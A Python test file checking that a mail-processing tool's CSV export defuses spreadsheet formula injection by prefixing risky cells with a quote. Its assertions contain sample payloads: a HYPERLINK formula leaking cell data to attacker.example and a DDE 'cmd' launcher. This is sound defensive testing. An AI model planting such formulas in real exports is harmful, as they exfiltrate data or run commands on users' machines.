"""The CSV export holds no cell a spreadsheet would run as a formula.

GIVEN an application (tests/fixtures/injection/spreadsheet-formulas.eml) whose name and library
  begin with "=" and "+", read by the worker from the real Dovecot (its city's leading "-" is
  read by the form reader as a list mark and dropped; the unit test below covers "-")
WHEN a coordinator runs `inbox-worker export`
THEN Python's csv reader finds every value there, and none begins as a formula does: each
  such value is written with a leading "'", which spreadsheets read as "this is text".
"""
from __future__ import annotations

import csv
from pathlib import Path

import pytest
from program_world import JANUARY_5, Year

from inbox_worker.program.history import spreadsheet_cell

CRAFTED = Path(__file__).parent / "fixtures" / "injection"
# What makes Excel, LibreOffice or Google Sheets take a cell for a formula (OWASP's list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_no_exported_cell_is_a_formula(year: Year, tmp_path: Path):
    """Every cell of both files, read with csv, begins as text does; the crafted values are there."""
    y = year
    y.dovecot.append(y.user, (CRAFTED / "spreadsheet-formulas.eml").read_bytes())
    y.cycle(JANUARY_5)
    out = tmp_path / "export"
    y.cli("export", "--format", "csv", "--output", str(out))

    cells = []
    for name in ("participants.csv", "relationships.csv"):
        with (out / name).open(newline="", encoding="utf-8") as f:
            cells += [cell for row in csv.reader(f) for cell in row]
    assert [c for c in cells if c.lstrip(" \u00a0").startswith(FORMULA_START)] == []
    assert "'=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Fran Formula\")" in cells
    assert "'+SUM(1+1) Public Library" in cells
    assert "2+3+cmd|' /C calc'!A0" in cells


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("  =1+1", "'  =1+1"), ("Fran O'Neil", "Fran O'Neil"), ("a=1", "a=1"), ("0.712", "0.712"), (None, ""), (3, "3"),
])
def test_a_cell_beginning_like_a_formula_gets_a_leading_quote(value, cell):
    """Only a value that begins (after spaces) with =, +, -, @, tab or CR is changed, by one leading '."""
    assert spreadsheet_cell(value) == cell
